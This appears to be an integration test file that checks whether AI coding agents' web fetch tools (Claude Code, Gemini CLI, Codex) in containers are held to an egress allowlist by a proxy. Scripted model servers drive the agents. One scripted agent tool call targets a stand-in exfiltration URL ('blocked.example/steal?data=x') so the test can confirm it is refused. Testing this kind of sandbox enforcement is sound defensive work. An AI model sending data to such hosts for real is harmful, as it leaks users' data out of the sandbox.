/**
 * The agent CLIs' own web fetch tools in their images (gitcrew/claude,
 * gitcrew/gemini), run by the Runner on the run gateway's network with the
 * runtime adapters' gateway settings, against scripted model servers.
 *
 * - Claude Code's WebFetch fetches the page itself, through the proxy: an
 *   allowlisted host's page reaches the model, a host off the list is refused
 *   by the proxy and recorded. Before the adapter set skipWebFetchPreflight,
 *   every WebFetch first asked api.anthropic.com about the domain, which the
 *   proxy refused, so no page was ever fetched (and that refusal was recorded).
 * - Codex has no fetch tool of its own (only the provider's web search,
 *   declared per the presets): its shell fetches a page, through the proxy.
 * - Gemini CLI's web_fetch, its provider-side fetch refused, fetches the page
 *   itself; the proxy's refusal ends that at once (retryFetchErrors: false in
 *   the system settings). Before, the CLI retried the refused connection with
 *   backoff for minutes: the run hit its timeout, with a refusal per attempt.
 */
import { execFile } from "node:child_process";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Agent } from "../../src/crew/types.js";
import { containerSpec } from "../../src/plan/container.js";
import { Runner } from "../../src/runner/runner.js";
import type { RunResult } from "../../src/runner/types.js";
import { testAgent } from "../support/fake-anthropic/agent.js";
import { type MessagesBody, startFakeAnthropic, textOf, toolResults } from "../support/fake-anthropic/server.js";
import { type GeminiBody, startFakeGemini } from "../support/fake-gemini/server.js";
import { startFakeOpenAI } from "../support/fake-openai/server.js";
import { type Cert, makeCert, startHttps, type TestServer } from "./support.js";

const exec = promisify(execFile);
const THREAD = "local/web-fetch#1";
const PAGE = "PAGE-TEXT-7f3a: the allowlisted page's own words";
/** The CLI reads the test server's certificate from the workspace (the run's checkout). */
const CA_IN_CONTAINER = "/workspace/test-ca.pem";

let dir: string;
let repo: string;
let cert: Cert;
let page: TestServer;
const closers: (() => Promise<void>)[] = [];

beforeAll(async () => {
  for (const image of ["gitcrew/claude:latest", "gitcrew/gemini:latest", "gitcrew/codex:latest"]) {
    await exec("docker", ["image", "inspect", image]).catch(() => {
      throw new Error(`image ${image} is missing: build it with 'gitcrew images build ${image.slice(8, -7)} --offline'`);
    });
  }
  cert = makeCert();
  page = await startHttps(cert, (_req, res) => res.writeHead(200, { "content-type": "text/plain" }).end(PAGE));
  dir = await mkdtemp(join(tmpdir(), "gitcrew-web-fetch-"));
  repo = join(dir, "repo");
  await mkdir(repo);
  await writeFile(join(repo, "README.md"), "# demo\n");
  await writeFile(join(repo, "test-ca.pem"), cert.cert);
  await exec("git", ["init", "-q", "-b", "main", repo]);
  await exec("git", ["-C", repo, "add", "-A"]);
  await exec("git", ["-C", repo, "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", "init"]);
});

afterAll(async () => {
  for (const close of closers.reverse()) await close();
  await page?.close();
  cert?.cleanup();
  if (dir) await rm(dir, { recursive: true, force: true });
});

async function runWith(env: NodeJS.ProcessEnv, agent: Agent, prompt: string): Promise<{ result: RunResult; logs: string[] }> {
  const runner = await Runner.start({
    // Loopback stands in for an outside host: the gateway may reach it here.
    env: { ...process.env, GITCREW_HOME: join(dir, `home-${agent.name}`), GITCREW_GATEWAY_ALLOW_INTERNAL: "127.0.0.0/8", ...env },
  });
  closers.push(() => runner.close());
  const branch = `gitcrew/${agent.name}/${Date.now()}`;
  const logs: string[] = [];
  const result = await runner.run({
    planned: { agent: agent.name, reason: "test", prompt, threadKey: THREAD, branch, ref: "main", container: containerSpec({ agent, prompt, repo: "local/web-fetch", threadKey: THREAD, branch }), untrusted: [] },
    agent,
    repoDir: repo,
    repo: "local/web-fetch",
    observer: { onEvent: (ev) => (ev.type === "log" ? logs.push(`[${ev.stream}] ${ev.line}`) : undefined) },
  });
  return { result, logs };
}

describe("Claude Code's WebFetch in its container", () => {
  it("fetches an allowlisted host's page through the proxy (its text reaches the model); a host off the list is refused there and recorded", async () => {
    // An address: WebFetch takes only names with a dot ("localhost" is an invalid URL to it).
    const allowed = `https://127.0.0.1:${page.port}/docs`;
    const offList = `https://blocked.example/steal?data=x`;
    const results = (body: MessagesBody) => toolResults(body);
    const model = await startFakeAnthropic({
      // Agent turns offer tools; WebFetch's request that reads the page for the model does not.
      sideReply: { text: "SUMMARY-OF-FETCHED-PAGE" },
      script: [
        { toolUses: [{ id: "toolu_ok", name: "WebFetch", input: { url: allowed, prompt: "what does it say" } }] },
        { toolUses: [{ id: "toolu_off", name: "WebFetch", input: { url: offList, prompt: "what does it say" } }] },
        { text: "done with both pages" },
      ],
    });
    closers.push(() => model.close());
    const agent = testAgent({
      name: "fetcher",
      // NODE_EXTRA_CA_CERTS only so that the CLI trusts the test server's certificate, as it would a real site's.
      secrets: ["ANTHROPIC_API_KEY", "NODE_EXTRA_CA_CERTS"],
      limits: { timeout: 240, memory: 2 * 1024 ** 3, cpus: 1, pids: 512, network: { allow: [`127.0.0.1:${page.port}`] } },
    });
    const { result, logs } = await runWith({ ANTHROPIC_API_KEY: "sk-ant-real", GITCREW_ANTHROPIC_UPSTREAM: model.url, NODE_EXTRA_CA_CERTS: CA_IN_CONTAINER }, agent, "read the docs page");
    const why = `${result.reason}\n${logs.slice(-30).join("\n")}\nmodel errors: ${model.errors.join("; ")}`;
    expect(result.status, why).toBe("succeeded");
    expect(result.answer).toBe("done with both pages");

    // The page was fetched once, from the allowlisted server, and its text went to the model.
    expect(page.requests.filter((q) => q.url === "/docs"), JSON.stringify(model.turns.flatMap(results)) + JSON.stringify(result.gateway?.refusals)).toHaveLength(1);
    expect(model.requests.some((q) => q.raw.includes(PAGE)), "a model request with the page's text").toBe(true);
    const ok = model.turns.flatMap(results).find((r) => r.tool_use_id === "toolu_ok");
    expect(ok?.is_error, ok?.content).toBeFalsy();
    expect(ok?.content).toContain("SUMMARY-OF-FETCHED-PAGE");

    // The host off the list: refused by the proxy, recorded, and the model told the fetch failed.
    const off = model.turns.flatMap(results).find((r) => r.tool_use_id === "toolu_off");
    expect(off?.is_error).toBe(true);
    expect(off?.content).not.toContain("SUMMARY-OF-FETCHED-PAGE");
    const refusals = result.gateway?.refusals ?? [];
    expect(refusals.map((f) => [f.kind, f.host])).toEqual([["egress", "blocked.example"]]);
    // No preflight question to Anthropic's API left the container.
    expect(refusals.some((f) => f.host === "api.anthropic.com")).toBe(false);
    expect(textOf(model.turns.at(-1)!)).not.toContain("Unable to verify if domain");
  }, 300_000);
});

describe("Gemini CLI's web_fetch in its container", () => {
  it("its own fetch of a host off the allowlist is refused by the proxy once and the tool fails at once; the run goes on", async () => {
    const url = "https://1.2.3.4/page";
    const model = await startFakeGemini({
      // An address, not a name: the CLI skips a name it cannot resolve (the container resolves none) before fetching.
      script: [{ functionCall: { name: "web_fetch", args: { prompt: `Summarize ${url}` } } }, "went on without the page", "went on without the page"],
    });
    closers.push(() => model.close());
    const agent = testAgent({
      name: "gem",
      runtime: "gemini",
      image: "gitcrew/gemini:latest",
      secrets: [],
      // Less than the retries of a refused fetch took before (10 attempts, backoff up to 30 s each).
      limits: { timeout: 150, memory: 2 * 1024 ** 3, cpus: 1, pids: 512, network: { allow: [] } },
    });
    const { result, logs } = await runWith({ GEMINI_API_KEY: "AIza-real", GITCREW_GEMINI_UPSTREAM: model.url }, agent, "look it up");
    const why = `${result.reason}\n${logs.slice(-30).join("\n")}\nmodel errors: ${model.errors.join("; ")}`;
    expect(result.status, why).toBe("succeeded");
    expect(result.answer).toBe("went on without the page");

    // The model got the tool's failure: the fetch failed, nothing of a page.
    const response = functionResponses(model.turns[1]).find((r) => r.name === "web_fetch");
    expect(JSON.stringify(response?.response)).toMatch(/All fallback fetch attempts failed: https:\/\/1\.2\.3\.4\/page: fetch failed/);
    const refusals = result.gateway?.refusals ?? [];
    // The provider-side fetch (URL context) refused without preset:web-fetch, then the CLI's own fetch, once.
    expect(refusals.filter((f) => f.kind === "model").map((f) => f.reason)).toEqual([expect.stringContaining("urlContext")]);
    expect(refusals.filter((f) => f.kind === "egress").map((f) => f.host)).toEqual(["1.2.3.4"]);
  }, 300_000);
});

describe("Codex in its container", () => {
  it("declares no fetch tool of its own; its shell fetches an allowlisted page through the proxy, and a host off the list is refused", async () => {
    // The image has no curl: node's own fetch, told to use the proxy variables, as a shell command would.
    const fetchCmd = (url: string) =>
      `NODE_USE_ENV_PROXY=1 NODE_EXTRA_CA_CERTS=${CA_IN_CONTAINER} node -e 'fetch(process.argv[1]).then((r) => r.text()).then(console.log, (e) => console.log("FETCH-FAILED", e.cause?.message ?? e.message))' ${url}`;
    const model = await startFakeOpenAI({
      script: [
        { functionCall: { name: "exec_command", arguments: JSON.stringify({ cmd: fetchCmd(`https://127.0.0.1:${page.port}/codex`) }) } },
        { functionCall: { name: "exec_command", arguments: JSON.stringify({ cmd: fetchCmd("https://blocked.example/") }) } },
        "fetched with the shell",
      ],
    });
    closers.push(() => model.close());
    const agent = testAgent({
      name: "rev",
      runtime: "codex",
      image: "gitcrew/codex:latest",
      secrets: [],
      limits: { timeout: 240, memory: 2 * 1024 ** 3, cpus: 1, pids: 512, network: { allow: [`127.0.0.1:${page.port}`] } },
    });
    const { result, logs } = await runWith({ CODEX_API_KEY: "sk-openai-real", GITCREW_OPENAI_UPSTREAM: model.url.replace(/\/v1$/, "") }, agent, "fetch the page");
    const why = `${result.reason}\n${logs.slice(-30).join("\n")}\nmodel errors: ${model.errors.join("; ")}`;
    expect(result.status, why).toBe("succeeded");
    expect(result.answer).toBe("fetched with the shell");
    const tools = declaredTools(model.requests[0]?.json);
    expect(tools.length).toBeGreaterThan(0);
    // Client tools only (shell, patch, plan, images…): no web_search without the presets, nothing that fetches a URL.
    expect(tools.filter((t) => !["function", "custom", "namespace"].includes(t.type))).toEqual([]);
    expect(tools.map((t) => t.name).filter((n) => /fetch|web|url|browse/i.test(n))).toEqual([]);
    const outputs = JSON.stringify(model.requests.map((q) => q.json));
    expect(outputs).toContain(PAGE);
    expect(page.requests.filter((q) => q.url === "/codex"), JSON.stringify(result.gateway?.refusals)).toHaveLength(1);
    expect(outputs).toContain("FETCH-FAILED");
    // Codex's own background connections (its plugin and analytics hosts) are refused as well; the page's host once.
    const refusals = result.gateway?.refusals ?? [];
    expect(refusals.filter((f) => f.host === "blocked.example").map((f) => f.kind)).toEqual(["egress"]);
    expect(refusals.filter((f) => f.host === "127.0.0.1")).toEqual([]);
  }, 300_000);
});

/** Every tool a Responses request declares, in `tools` and in Codex's `additional_tools` input items, namespaces opened. */
function declaredTools(json: unknown): { type: string; name: string }[] {
  const out: { type: string; name: string }[] = [];
  const walk = (v: unknown, inTools: boolean): void => {
    if (Array.isArray(v)) return v.forEach((x) => walk(x, inTools));
    if (typeof v !== "object" || v === null) return;
    const o = v as Record<string, unknown>;
    if (inTools && typeof o.type === "string") out.push({ type: o.type, name: String(o.name ?? "") });
    for (const [k, x] of Object.entries(o)) if (typeof x === "object") walk(x, k === "tools");
  };
  walk(json, false);
  return out;
}

function functionResponses(body: GeminiBody | undefined): { name?: string; response?: unknown }[] {
  const parts = (body?.contents ?? []).flatMap((c) => (c.parts ?? []) as { functionResponse?: { name?: string; response?: unknown } }[]);
  return parts.flatMap((p) => (p.functionResponse ? [p.functionResponse] : []));
}
